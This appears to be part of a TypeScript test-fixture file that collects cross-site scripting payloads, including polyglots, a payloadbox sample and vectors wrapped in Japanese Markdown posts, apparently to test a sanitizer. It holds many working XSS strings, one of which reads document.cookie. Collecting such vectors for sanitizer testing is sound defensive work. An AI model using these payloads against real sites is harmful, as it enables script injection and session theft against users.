		'<p><table><xmp></p><img src=x onerror=alert(1)></xmp>'
	]
};

// ---------------------------------------------------------------------------------------------
// Polyglots and a sample of payloadbox's list (vectors not covered above).
const polyglots: PayloadGroup = {
	name: 'polyglots and payloadbox sample',
	source: 'OWASP XSS Locator, PortSwigger json/polyglot.json, payloadbox',
	payloads: [
		"javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
		'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \\"\n onmouseover=/*&lt;svg/*/onload=alert()//>',
		"javascript:/*--></title></style></textarea></script></xmp><details/open/ontoggle='+/`/+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
		'"-prompt(8)-"',
		"'-alert(1)-'",
		"\\\";alert('XSS');//",
		'"><img src="x:x" onerror="alert(XSS)">',
		'"><iframe src="javascript:alert(XSS)">',
		'"><svg/onload=alert(String.fromCharCode(88,83,83))>',
		"'';!--\"<XSS>=&{()}",
		'<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
		'<IMG SRC="`<javascript:alert>`(\'XSS\')"',
		'<marquee loop=1 width=0 onfinish=alert(1)>',
		'<script>Object.defineProperties(window, {Safe: {value: {get: function() {return document.cookie}}}});alert(Safe.get())</script>',
		'<script/src="data&colon;text%2Fj\\u0061v\\u0061script,\\u0061lert(\'\\u0061\')"></script a=\\u0061 & /=%2F',
		'<div id="37"><!--<img src="--><img src=x onerror=alert(37)//">//["\'`-->]]>]</div>',
		'<br/><hr/>feed:feed:javAscript:javAscript:feed:alert(1);//<br/><hr/>',
		'getURL("javascript:alert(\'XSS\')")',
		'<A HREF="h \ntt  p://6\t6.000146.0x7.147/">XSS</A>',
		'<A HREF="//www.google.com/">XSS</A>'
	]
};

// ---------------------------------------------------------------------------------------------
// Realistic posts: some of the vectors above inside list items, quotes, tables, headings and
// emphasis, the way they would arrive in a real discussion.
const CORE = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)>',
	'[詳細](javascript:alert(1))',
	'[詳細](<java&#x09;script:alert(1)>)',
	'<javascript:alert(1)>',
	'[詳細][1]\n\n[1]: vbscript:msgbox(1)',
	'<iframe srcdoc="<script>alert(1)</script>">',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'![写真](x" onerror="alert(1))',
	'`</code><script>alert(1)</script>`',
	'<a href="javascript:alert(1)">クリック</a>'
];
const CONTEXTS: ((payload: string) => string)[] = [
	(p) => `こんにちは。\n\n- 持ち物: ${p}\n- 集合: 10時`,
	(p) => `> ${p}\n\n引用しました。`,
	(p) => `| 項目 | 内容 |\n| --- | --- |\n| 場所 | ${p} |`,
	(p) => `## ${p}\n\n本文`,
	(p) => `**${p}**`,
	(p) => `1. 一つ目\n   - ${p}`,
	(p) => `子ども食堂のお知らせです。${p}よろしくお願いします。`
];
const contexts: PayloadGroup = {
	name: 'payloads in list items, quotes, tables, headings and emphasis',
	source: 'the vectors above (OWASP, PortSwigger, H5SC, mXSS) in Markdown contexts',
	payloads: CORE.flatMap((payload) => CONTEXTS.map((context) => context(payload)))
};

export const XSS_GROUPS: PayloadGroup[] = [
	scriptTags,
	eventHandlers,
	dangerousUrls,
	markdownTricks,
	svgMathml,
	loaders,
	styles,
	entities,
	comments,
	differentials,
	polyglots,
	contexts
];

/** Every payload once. */
export const XSS_PAYLOADS: string[] = [...new Set(XSS_GROUPS.flatMap((group) => group.payloads))];
